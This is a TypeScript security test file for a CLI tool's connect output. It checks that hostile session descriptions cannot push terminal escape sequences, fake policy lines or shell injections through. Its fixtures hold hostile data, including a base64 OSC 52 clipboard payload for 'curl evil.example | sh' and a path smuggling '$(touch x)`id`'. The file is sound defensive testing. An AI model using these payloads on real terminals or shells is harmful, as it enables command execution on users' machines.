/**
 * connect's banner and messages (src/cli/connect-output.ts) against a hostile agent: whatever
 * the session description holds, nothing reaches the terminal as an escape sequence, and the
 * mode and policy lines say what the validated description says.
 */
import assert from 'node:assert/strict';
import { execFileSync } from 'node:child_process';
import { describe, it } from 'node:test';
import { ConnectOutput, bannerLines, exportLine } from '../../../src/cli/connect-output.js';
import { KubepairError } from '../../../src/errors/index.js';
import type { SessionDescription } from '../../../src/protocol/session-description.js';
import { parseSessionDescription } from '../../../src/protocol/session-description.js';

/** C0 (but not the line feeds between lines), DEL, C1, and format characters. */
const ACTIVE = /(?!\n)[\p{Cc}\p{Cf}]/u;

const HOSTILE_RULES = [
  'get pods\u001b]0;pwned by the agent\u0007',
  '\u001b]52;c;Y3VybCBldmlsLmV4YW1wbGUgfCBzaA==\u0007',
  'x\n  policy:  readonly',
  'x\r  policy:  readonly',
  '\u001b[1A\u001b[2K  policy:  readonly',
  '\u009b1A\u009b2K  policy:  readonly',
  'get \u202esdop\u202c',
  `${'x'.repeat(70)}  policy:  readonly`,
];

function hostileDescription(): SessionDescription {
  return parseSessionDescription({
    type: 'session',
    cluster: { name: 'prod\u001b]2;title\u0007' },
    mode: 'proxy',
    policy: { mode: 'open', allow: HOSTILE_RULES, deny: ['delete \u001b[31mnothing\u001b[0m'] },
    targets: ['kube-apiserver', 'redis'],
    namespace: 'team-a',
    expires_at: '2030-01-01T00:00:00.000Z',
  });
}

function captureStderr(run: () => void): string {
  const original = process.stderr.write.bind(process.stderr);
  let text = '';
  process.stderr.write = (chunk: string | Uint8Array): boolean => {
    text += typeof chunk === 'string' ? chunk : Buffer.from(chunk).toString('utf8');
    return true;
  };
  try {
    run();
  } finally {
    process.stderr.write = original;
  }
  return text;
}

describe('Security: connect prints nothing a hostile agent can use on the terminal', () => {
  it('the banner holds no control, C1 or format character, whatever the rules say', () => {
    const lines = bannerLines(hostileDescription());
    for (const [index, line] of lines.entries()) {
      assert.doesNotMatch(line, ACTIVE, `line ${index}: ${JSON.stringify(line)}`);
      assert.ok(!line.includes('\n') && !line.includes('\r'), `line ${index} is one line`);
    }
  });

  it('the policy line is the validated mode, and no rule can start a line of its own', () => {
    const lines = bannerLines(hostileDescription());
    assert.deepEqual(
      lines.filter((line) => /^\s*policy:/.test(line)),
      ['  policy:  open, 9 rules:'],
      'exactly one policy line, saying open',
    );
    assert.deepEqual(lines.filter((line) => /^\s*mode:/.test(line)), ['  mode:    proxy']);
    const ruleLines = lines.filter((line) => /^ {4}(allow|deny )/.test(line));
    assert.equal(ruleLines.length, 9);
    for (const line of ruleLines) {
      assert.match(line, /^ {4}(allow|deny ) "[\x20-\x7e]*"$/, `a quoted ASCII rule: ${line}`);
      assert.ok(line.length <= 80, `fits 80 columns without wrapping: ${line.length}`);
    }
    assert.ok(lines.includes('    allow "x\\x0a  policy:  readonly"'), 'a newline is shown, not obeyed');
    assert.ok(lines.includes('    deny  "delete \\x1b[31mnothing\\x1b[0m"'), 'deny rules come first');
  });

  it('passthrough shows no policy, whatever rules the description carries', () => {
    const description = parseSessionDescription({
      type: 'session',
      cluster: { name: 'prod', server_name: 'kubernetes.default.svc', ca: '-----BEGIN CERTIFICATE-----\nAAAA\n-----END CERTIFICATE-----\n' },
      mode: 'passthrough',
      policy: { mode: 'readonly', allow: ['get pods'], deny: [] },
      targets: ['kube-apiserver'],
      credentials: { token: 'secret-token' },
      expires_at: '2030-01-01T00:00:00.000Z',
    });
    const lines = bannerLines(description);
    assert.ok(lines.includes('  policy:  none (passthrough)'));
    assert.ok(!lines.some((line) => line.includes('readonly') || line.includes('get pods')), lines.join('\n'));
  });

  it('the tunnel-closed line shows an error message inert', () => {
    const text = captureStderr(() => new ConnectOutput().tunnelClosed({ reason: 'unknown', error: new KubepairError('KP_ERR_TRANSPORT_CLOSED', 'close code 4999: \u001b]52;c;ZXZpbA==\u0007') }));
    assert.doesNotMatch(text, ACTIVE);
    assert.match(text, /close code 4999: \\x1b\]52;c;ZXZpbA==\\x07/);
  });

  it('another local user\'s closed connection is one line naming the port, the target (inert) and the uid', () => {
    const text = captureStderr(() => new ConnectOutput().foreignUserRefused({ target: 'db\u001b[2J', localPort: 6380, uids: [1001] }));
    assert.doesNotMatch(text.slice(0, -1), ACTIVE);
    assert.equal(text.split('\n').length, 2, 'one line');
    assert.match(text, /^kubepair: closed a connection on 127\.0\.0\.1:6380 \(db\\x1b\[2J\) from another local user \(uid 1001\): only your user and root may use this tunnel/);
  });

  it('export lines for --no-shell: a plain path as it is, any other quoted so that eval gives it back unchanged', () => {
    assert.equal(exportLine('KUBECONFIG', '/run/user/1000/kubepair/a.kubeconfig'), 'export KUBECONFIG=/run/user/1000/kubepair/a.kubeconfig');
    for (const path of ["/tmp/a b/c", "/tmp/it's", '/tmp/$(touch x)`id`;', '/tmp/"q"\\n']) {
      const line = exportLine('KUBECACHEDIR', path);
      const printed = execFileSync('/bin/sh', ['-c', `${line}; printf %s "$KUBECACHEDIR"`], { encoding: 'utf8' });
      assert.equal(printed, path, line);
    }
  });
});
